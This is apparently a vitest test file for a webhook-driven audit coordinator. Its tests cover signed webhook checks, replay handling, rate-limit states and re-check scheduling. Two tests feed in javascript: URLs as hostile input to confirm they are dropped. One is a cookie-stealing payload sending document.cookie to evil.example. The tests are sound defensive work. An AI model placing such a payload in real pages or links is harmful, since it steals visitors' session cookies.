import { afterEach, describe, expect, it } from 'vitest';
import {
  type AuditRecord,
  createCoordinator,
  createGeoAuditClient,
  createMemoryStore,
  generateWebhookSecret,
  signWebhook,
} from '../../src/index.ts';
import { sampleResult } from '../helpers/sample-result.ts';
import { type Reply, startScriptedServer } from '../helpers/scripted-server.ts';

/** A small stateful stand-in for the API: jobs complete when the test says so. */
async function startApi(
  behaviour: {
    startReply?: () => Reply | undefined;
    statusReply?: () => Reply | undefined;
    result?: () => Record<string, unknown>;
    resultsUrl?: string;
  } = {},
) {
  const jobs = new Map<string, { url: string; status: string }>();
  let next = 1;
  const server = await startScriptedServer((req) => {
    if (req.method === 'POST') {
      const override = behaviour.startReply?.();
      if (override) return override;
      const jobId = `job_${next++}`;
      jobs.set(jobId, { url: JSON.parse(req.body).url, status: 'queued' });
      return { status: 202, body: { job_id: jobId, status: 'queued', estimated_seconds: 3 } };
    }
    if (req.url.pathname === '/api/audit_status.php') {
      const refused = behaviour.statusReply?.();
      if (refused) return refused;
      const jobId = req.url.searchParams.get('job_id') ?? '';
      const job = jobs.get(jobId);
      if (!job) return { status: 404, body: { type: '/problems/not-found', status: 404 } };
      return job.status === 'complete'
        ? {
            status: 200,
            body: {
              job_id: jobId,
              status: 'complete',
              geo_score: 72,
              results_url: behaviour.resultsUrl ?? 'http://r/x',
            },
          }
        : { status: 200, body: { job_id: jobId, status: job.status } };
    }
    const result = behaviour.result?.() ?? sampleResult();
    return { status: 200, body: { ...result, url: req.url.searchParams.get('url') } };
  });
  return { server, jobs };
}

const servers: Array<{ close: () => Promise<void> }> = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

async function setup(
  options: {
    secret?: string;
    startReply?: () => Reply | undefined;
    result?: () => Record<string, unknown>;
    maxInFlight?: number;
    recheckDelaysMs?: number[];
    now?: () => Date;
    resultsUrl?: string;
    statusReply?: () => Reply | undefined;
  } = {},
) {
  const api = await startApi({
    ...(options.statusReply ? { statusReply: options.statusReply } : {}),
    ...(options.resultsUrl ? { resultsUrl: options.resultsUrl } : {}),
    ...(options.startReply ? { startReply: options.startReply } : {}),
    ...(options.result ? { result: options.result } : {}),
  });
  servers.push(api.server);
  const client = createGeoAuditClient({ apiKey: 'k', baseUrl: api.server.baseUrl, retry: { limit: 0 } });
  const store = createMemoryStore();
  const changes: AuditRecord[] = [];
  const coordinator = createCoordinator({
    client,
    store,
    webhookUrl: 'https://cms.example.com/geo-audit/webhook',
    ...(options.secret ? { webhookSecret: options.secret } : {}),
    ...(options.maxInFlight ? { maxInFlight: options.maxInFlight } : {}),
    ...(options.recheckDelaysMs ? { recheckDelaysMs: options.recheckDelaysMs } : {}),
    ...(options.now ? { now: options.now } : {}),
    onChange: (record) => changes.push(structuredClone(record)),
  });
  return { ...api, client, store, coordinator, changes };
}

async function signedDelivery(
  secret: string,
  body: object,
  id = 'msg_1',
  timestamp = Math.floor(Date.now() / 1000),
) {
  const rawBody = JSON.stringify(body);
  const headers = await signWebhook({ id, timestamp, body: rawBody, secret });
  return { rawBody, headers: { ...headers } };
}

const completed = (jobId: string) => ({
  type: 'audit.completed',
  job_id: jobId,
  url: 'https://example.com/a',
  status: 'complete',
  geo_score: 72,
  verdict: 'Fair',
  results_url: 'http://r/x',
  analyzed_at: '2026-11-20T10:00:00Z',
});

describe('coordinator', () => {
  it('starts exactly one audit per publish, with the webhook route and an idempotency key', async () => {
    const { server, coordinator } = await setup();
    const record = await coordinator.publish({ key: 'article:1:en', url: 'https://example.com/a' });
    expect(record).toMatchObject({ state: 'queued', jobId: 'job_1', url: 'https://example.com/a' });
    const posts = server.requests.filter((r) => r.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(JSON.parse(posts[0]?.body ?? '')).toMatchObject({
      url: 'https://example.com/a',
      webhook_url: 'https://cms.example.com/geo-audit/webhook',
    });
    expect(posts[0]?.headers['idempotency-key']).toMatch(/^article:1:en@/);
  });

  it('stores the confirmed result when a signed webhook arrives, and ignores a replay', async () => {
    const secret = generateWebhookSecret();
    const { server, jobs, coordinator, store, changes } = await setup({ secret });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });

    const delivery = await signedDelivery(secret, completed('job_1'));
    expect(await coordinator.handleWebhook(delivery)).toEqual({
      status: 200,
      body: { ok: true, state: 'complete' },
    });
    const stored = await store.get('doc');
    expect(stored).toMatchObject({
      state: 'complete',
      geoScore: 72,
      verdict: 'Fair',
      resultsUrl: 'http://r/x',
    });
    expect(stored?.result?.modules.schema?.types_found).toEqual(['Article', 'Person']);
    expect(stored?.history).toEqual([
      { jobId: 'job_1', geoScore: 72, verdict: 'Fair', analyzedAt: '2026-11-20T10:00:00Z' },
    ]);
    expect(changes.at(-1)?.state).toBe('complete');

    const requestsBefore = server.requests.length;
    expect(await coordinator.handleWebhook(delivery)).toEqual({
      status: 200,
      body: { ok: true, reason: 'duplicate' },
    });
    expect(server.requests.length).toBe(requestsBefore);
  });

  it('keeps the score but drops a results_url that is not an http(s) address, which the hosts would put in a link', async () => {
    const secret = generateWebhookSecret();
    const { jobs, coordinator, store } = await setup({
      secret,
      resultsUrl: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
    });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
    const outcome = await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
    expect(outcome.status).toBe(200);
    expect(await store.get('doc')).toMatchObject({ state: 'complete', geoScore: 72, resultsUrl: null });
  });

  it('processes the redelivery of a webhook whose first delivery failed in the store, instead of calling it a duplicate', async () => {
    const secret = generateWebhookSecret();
    const { jobs, coordinator, store } = await setup({ secret });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
    const lookup = store.findByJobId.bind(store);
    let failures = 1;
    store.findByJobId = async (jobId) => {
      if (failures-- > 0) throw new Error('database is locked');
      return lookup(jobId);
    };
    const delivery = await signedDelivery(secret, completed('job_1'));
    await expect(coordinator.handleWebhook(delivery)).rejects.toThrow('database is locked');
    expect(await coordinator.handleWebhook(delivery)).toEqual({
      status: 200,
      body: { ok: true, state: 'complete' },
    });
    expect(await store.get('doc')).toMatchObject({ state: 'complete', geoScore: 72 });
  });

  it('rejects a delivery whose bytes differ from the signed ones though they decode to the same text', async () => {
    const secret = generateWebhookSecret();
    const { coordinator } = await setup({ secret });
    const event = { ...completed('job_1'), url: 'https://example.com/\uFFFD' };
    const { rawBody, headers } = await signedDelivery(secret, event);
    const signed = new TextEncoder().encode(rawBody);
    const at = signed.indexOf(0xef);
    // 0xFF is not UTF-8: decoded, it reads as the U+FFFD the sender signed.
    const forged = new Uint8Array([...signed.slice(0, at), 0xff, ...signed.slice(at + 3)]);
    expect((await coordinator.handleWebhook({ rawBody: forged, headers })).status).toBe(401);
  });

  it("does not carry a stored results_url that is not http(s) into the next audit's record", async () => {
    const { coordinator, store } = await setup();
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    const stored = await store.get('doc');
    await store.save({ ...stored!, state: 'complete', resultsUrl: 'javascript:alert(document.cookie)' });
    expect((await coordinator.publish({ key: 'doc', url: 'https://example.com/a' })).resultsUrl).toBeNull();
  });

  it('rejects forged and stale webhooks with 401 and changes nothing', async () => {
    const secret = generateWebhookSecret();
    const { server, coordinator, store } = await setup({ secret });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    const before = await store.get('doc');
    const requestsBefore = server.requests.length;

    const forged = await signedDelivery(generateWebhookSecret(), completed('job_1'));
    expect((await coordinator.handleWebhook(forged)).status).toBe(401);
    const stale = await signedDelivery(
      secret,
      completed('job_1'),
      'msg_2',
      Math.floor(Date.now() / 1000) - 3600,
    );
    expect(await coordinator.handleWebhook(stale)).toEqual({
      status: 401,
      body: { ok: false, reason: 'timestamp_too_old' },
    });
    const tampered = await signedDelivery(secret, completed('job_1'), 'msg_3');
    tampered.rawBody = tampered.rawBody.replace('72', '99');
    expect((await coordinator.handleWebhook(tampered)).status).toBe(401);

    expect(await store.get('doc')).toEqual(before);
    expect(server.requests.length).toBe(requestsBefore);
  });

  it('treats an unsigned webhook as a hint and stores only what the API confirms', async () => {
    const { jobs, coordinator, store } = await setup();
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    jobs.set('job_1', { url: 'https://example.com/a', status: 'running' });
    // A lying hint says complete; the API says running.
    const hint = { rawBody: JSON.stringify(completed('job_1')), headers: {} };
    expect(await coordinator.handleWebhook(hint)).toEqual({
      status: 200,
      body: { ok: true, state: 'running' },
    });
    expect((await store.get('doc'))?.geoScore).toBeNull();
    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
    await coordinator.pollActive();
    expect(await store.get('doc')).toMatchObject({ state: 'complete', geoScore: 72 });
  });

  it('answers 400 to bodies that are not audit events and 202 to unknown jobs', async () => {
    const { coordinator } = await setup();
    expect((await coordinator.handleWebhook({ rawBody: 'nope', headers: {} })).status).toBe(400);
    expect((await coordinator.handleWebhook({ rawBody: '{"type":"other"}', headers: {} })).status).toBe(400);
    const unknown = await coordinator.handleWebhook({
      rawBody: JSON.stringify(completed('job_404')),
      headers: {},
    });
    expect(unknown).toEqual({ status: 202, body: { ok: true, reason: 'unknown_job' } });
  });

  it('leaves a specific, visible state when the API refuses: 422 failed, 429 waiting with retryAt, 500 waiting', async () => {
    let reply: Reply | undefined;
    const { coordinator } = await setup({ startReply: () => reply });

    reply = {
      status: 422,
      body: { type: '/problems/invalid-url', status: 422, detail: 'domain does not resolve' },
    };
    const invalid = await coordinator.publish({ key: 'a', url: 'https://nowhere.invalid/' });
    expect(invalid).toMatchObject({ state: 'failed', error: { code: 'invalid_url' } });
    expect(invalid.error?.message).toContain('domain does not resolve');

    reply = {
      status: 429,
      body: { type: '/problems/rate-limited', status: 429 },
      headers: { 'retry-after': '600', 'x-ratelimit-remaining': '0' },
    };
    const limited = await coordinator.publish({ key: 'b', url: 'https://example.com/b' });
    expect(limited).toMatchObject({ state: 'waiting', error: { code: 'rate_limited' } });
    expect(Date.parse(limited.error?.retryAt ?? '') - Date.now()).toBeGreaterThan(590_000);

    reply = {
      status: 500,
      body: { type: '/problems/internal-error', status: 500 },
      headers: { 'retry-after': '60' },
    };
    const broken = await coordinator.publish({ key: 'c', url: 'https://example.com/c' });
    expect(broken).toMatchObject({ state: 'waiting', error: { code: 'server_error' } });
  });

  it('says a base URL that does not lead to the API is the address to fix, not an unknown problem', async () => {
    let reply: Reply | undefined = {
      status: 404,
      body: {
        type: '/problems/no-such-endpoint',
        status: 404,
        detail: 'No endpoint at /api/api/audit.php: leave /api out of the base URL.',
      },
    };
    const { coordinator } = await setup({ startReply: () => reply });
    const wrong = await coordinator.publish({ key: 'a', url: 'https://example.com/a' });
    expect(wrong).toMatchObject({ state: 'failed', error: { code: 'api_address' } });
    expect(wrong.error?.message).toContain('leave /api out of the base URL');

    // A proxy's or another site's 404 page, with no problem body at all, is the same mistake.
    reply = {
      status: 404,
      raw: '<html><body>Not Found</body></html>',
      headers: { 'content-type': 'text/html' },
    };
    const proxy = await coordinator.publish({ key: 'b', url: 'https://example.com/b' });
    expect(proxy).toMatchObject({ state: 'failed', error: { code: 'api_address' } });
  });

  it('clears the reason a status check failed once a later check gets an answer', async () => {
    let statusReply: Reply | undefined;
    const { coordinator } = await setup({ statusReply: () => statusReply });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    statusReply = {
      status: 503,
      body: { type: '/problems/unavailable', status: 503 },
      headers: { 'retry-after': '30' },
    };
    const refused = await coordinator.refresh('doc');
    expect(refused).toMatchObject({ state: 'queued', error: { code: 'server_error' } });
    statusReply = undefined;
    expect(await coordinator.refresh('doc')).toMatchObject({ state: 'queued', error: null });
  });

  it('keeps at most maxInFlight audits on the API and starts the next when one completes', async () => {
    const secret = generateWebhookSecret();
    const { server, jobs, coordinator, store } = await setup({ secret, maxInFlight: 2 });
    for (const key of ['a', 'b', 'c']) await coordinator.publish({ key, url: `https://example.com/${key}` });
    expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(2);
    expect((await store.get('c'))?.state).toBe('waiting');

    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
    await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
    expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(3);
    expect(await store.get('c')).toMatchObject({ state: 'queued', jobId: 'job_3' });
  });

  it('keeps the previous score visible while a re-run is in progress', async () => {
    const secret = generateWebhookSecret();
    const { jobs, coordinator } = await setup({ secret });
    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
    await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
    const rerun = await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
    expect(rerun).toMatchObject({ state: 'queued', jobId: 'job_2', geoScore: 72 });
    expect(rerun.history).toHaveLength(1);
  });

  describe('withdraw: the document is no longer public (unpublished or deleted)', () => {
    const notServed = () => ({
      ...sampleResult(),
      geo_score: 0,
      verdict: 'Critical',
      caps: [{ check: 'gate.page_not_fetched', max: 0, reason: 'The page answered HTTP 404.' }],
    });

    it('drops a scheduled re-check: no audit of the gone page runs, and the last result stays with the reason', async () => {
      let clock = new Date('2026-11-24T10:00:00Z');
      const secret = generateWebhookSecret();
      const { server, jobs, coordinator, store } = await setup({
        secret,
        now: () => clock,
        recheckDelaysMs: [60_000],
        result: notServed,
      });
      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
      expect(await store.get('doc')).toMatchObject({ state: 'waiting', error: { code: 'page_not_served' } });

      const withdrawn = await coordinator.withdraw('doc');
      expect(withdrawn).toMatchObject({ state: 'complete', error: { code: 'audit_cancelled' } });
      expect(withdrawn?.error?.message).toContain('no longer published');
      clock = new Date('2026-11-24T11:00:00Z');
      await coordinator.pollActive();
      expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(1);
      expect(await coordinator.withdraw('unknown')).toBeNull();
    });

    it('lets a job already on the API finish, without a re-check; a new publish audits again', async () => {
      const secret = generateWebhookSecret();
      const { server, jobs, coordinator, store } = await setup({
        secret,
        recheckDelaysMs: [60_000],
        result: notServed,
      });
      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      expect(await coordinator.withdraw('doc')).toMatchObject({
        state: 'queued',
        error: { code: 'audit_cancelled' },
      });
      jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
      expect(await store.get('doc')).toMatchObject({ state: 'complete', error: { code: 'audit_cancelled' } });

      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(2);
      expect(await store.get('doc')).toMatchObject({ state: 'queued', error: null });
    });

    it('cancels a first audit still waiting for quota: nothing is shown as a score', async () => {
      const { coordinator, server } = await setup({
        startReply: () => ({ status: 503, body: { type: '/problems/internal-error', status: 503 } }),
      });
      expect(await coordinator.publish({ key: 'doc', url: 'https://example.com/a' })).toMatchObject({
        state: 'waiting',
      });
      expect(await coordinator.withdraw('doc')).toMatchObject({
        state: 'failed',
        result: null,
        error: { code: 'audit_cancelled' },
      });
      const before = server.requests.length;
      await coordinator.pollActive();
      expect(server.requests.length).toBe(before);
    });
  });

  describe('when the site does not serve the published page yet', () => {
    const notServed = () => ({
      ...sampleResult(),
      geo_score: 0,
      verdict: 'Critical',
      caps: [
        {
          check: 'gate.page_not_fetched',
          max: 0,
          reason: 'The page answered HTTP 404, so nothing on it can be cited.',
        },
      ],
    });

    it('audits again on the re-check schedule, each time under a new idempotency key, until the page is served', async () => {
      let clock = new Date('2026-11-24T10:00:00Z');
      let served = false;
      const secret = generateWebhookSecret();
      const { server, jobs, coordinator, store } = await setup({
        secret,
        now: () => clock,
        recheckDelaysMs: [60_000, 300_000],
        result: () => (served ? sampleResult() : notServed()),
      });
      const posts = () => server.requests.filter((r) => r.method === 'POST');
      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));

      const waiting = await store.get('doc');
      expect(waiting).toMatchObject({
        state: 'waiting',
        rechecks: 1,
        geoScore: 0,
        error: { code: 'page_not_served', retryAt: '2026-11-24T10:01:00.000Z' },
      });
      expect(waiting?.error?.message).toContain('HTTP 404');
      expect(waiting?.error?.message).toContain('re-check 1 of 2');
      // The parts, for hosts that say it in the editor's language.
      expect(waiting?.error?.recheck).toEqual({
        reason: 'The page answered HTTP 404, so nothing on it can be cited.',
        attempt: 1,
        of: 2,
      });
      // The not-served result stays visible while the re-check waits.
      expect(waiting?.result?.caps).toHaveLength(1);

      await coordinator.pollActive();
      expect(posts()).toHaveLength(1);
      // A late delivery for the finished job (a retry under a new id) neither completes the record nor cancels
      // the re-check.
      await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1'), 'msg_late'));
      expect(await store.get('doc')).toMatchObject({ state: 'waiting', rechecks: 1 });
      clock = new Date('2026-11-24T10:01:00Z');
      await coordinator.pollActive();
      expect(posts()).toHaveLength(2);
      expect(await store.get('doc')).toMatchObject({ state: 'queued', jobId: 'job_2', error: null });
      const keys = posts().map((r) => r.headers['idempotency-key']);
      expect(new Set(keys).size).toBe(2);
      expect(keys[1]).toMatch(/#recheck-1$/);

      served = true;
      jobs.set('job_2', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.handleWebhook(await signedDelivery(secret, completed('job_2'), 'msg_2'));
      expect(await store.get('doc')).toMatchObject({
        state: 'complete',
        geoScore: 72,
        rechecks: 1,
        error: null,
      });
      // The score history holds the page's score only: the 404 is not a score of the page.
      expect((await store.get('doc'))?.history.map((entry) => entry.jobId)).toEqual(['job_2']);
      clock = new Date('2026-11-24T11:00:00Z');
      await coordinator.pollActive();
      expect(posts()).toHaveLength(2);
    });

    it('stops after the last re-check and keeps the not-served result with its fix; a new publish starts the schedule again', async () => {
      let clock = new Date('2026-11-24T10:00:00Z');
      const { server, jobs, coordinator, store } = await setup({
        now: () => clock,
        recheckDelaysMs: [60_000],
        result: notServed,
      });
      const posts = () => server.requests.filter((r) => r.method === 'POST');
      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.pollActive();
      expect(await store.get('doc')).toMatchObject({ state: 'waiting', rechecks: 1 });

      clock = new Date('2026-11-24T10:02:00Z');
      await coordinator.pollActive();
      jobs.set('job_2', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.pollActive();
      expect(await store.get('doc')).toMatchObject({
        state: 'complete',
        geoScore: 0,
        rechecks: 1,
        error: null,
      });
      // A hint replayed for the finished job adds no re-check.
      await coordinator.handleWebhook({ rawBody: JSON.stringify(completed('job_2')), headers: {} });
      clock = new Date('2026-11-24T12:00:00Z');
      await coordinator.pollActive();
      expect(posts()).toHaveLength(2);
      expect((await store.get('doc'))?.state).toBe('complete');

      const again = await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      expect(again).toMatchObject({ state: 'queued', rechecks: 0 });
      jobs.set('job_3', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.pollActive();
      expect(await store.get('doc')).toMatchObject({ state: 'waiting', rechecks: 1 });
    });

    it('does not re-check what waiting does not fix: a password, a sign-in page or a bot challenge', async () => {
      for (const kind of ['restricted', 'challenge']) {
        const { server, jobs, coordinator, store } = await setup({
          result: () => {
            const result = notServed();
            return { ...result, caps: result.caps.map((cap) => ({ ...cap, kind })) };
          },
        });
        await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
        jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
        await coordinator.pollActive();
        expect(await store.get('doc')).toMatchObject({ state: 'complete', error: null, rechecks: 0 });
        expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(1);
      }
    });

    it('never re-checks with an empty schedule, or after a result whose page was served', async () => {
      const { server, jobs, coordinator, store } = await setup({ recheckDelaysMs: [], result: notServed });
      await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
      jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
      await coordinator.pollActive();
      expect(await store.get('doc')).toMatchObject({ state: 'complete', geoScore: 0, error: null });
      expect(server.requests.filter((r) => r.method === 'POST')).toHaveLength(1);
      expect((await store.get('doc'))?.history).toEqual([]);
    });
  });
});
